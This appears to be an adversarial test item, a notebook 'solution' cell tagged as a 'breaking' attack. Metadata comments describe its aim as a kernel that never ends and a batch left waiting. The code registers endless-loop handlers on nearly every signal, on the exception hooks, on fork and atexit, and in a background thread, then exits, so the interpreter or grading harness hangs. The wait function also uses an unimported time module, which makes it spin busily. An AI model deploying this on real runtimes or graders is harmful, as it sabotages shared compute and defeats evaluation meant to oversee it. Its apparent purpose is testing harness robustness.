# family = "breaking"
# tries = "The interpreter is left with hooks for its end, for errors and for forks that raise, print and wait for ever, and the cell that defines the talker ends the interpreter."
# could_earn = "A kernel that never ends, and a batch that waits for it."
# undefended = "The time of the notebook ends it."

# %% solution TalkerNode
import atexit
import os
import signal
import sys
import threading


def wait(*_, **__):
    while True:
        try:
            print("attack", end="", flush=True)
            time.sleep(600)
        except BaseException:
            continue


for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
    signal.signal(number, wait)
sys.excepthook = sys.unraisablehook = threading.excepthook = sys.__excepthook__ = wait
os.register_at_fork(before=lambda: time.sleep(0.1), after_in_child=wait)
atexit.register(wait)
threading.Thread(target=wait).start()
threading._register_atexit(wait)
sys.exit(0)
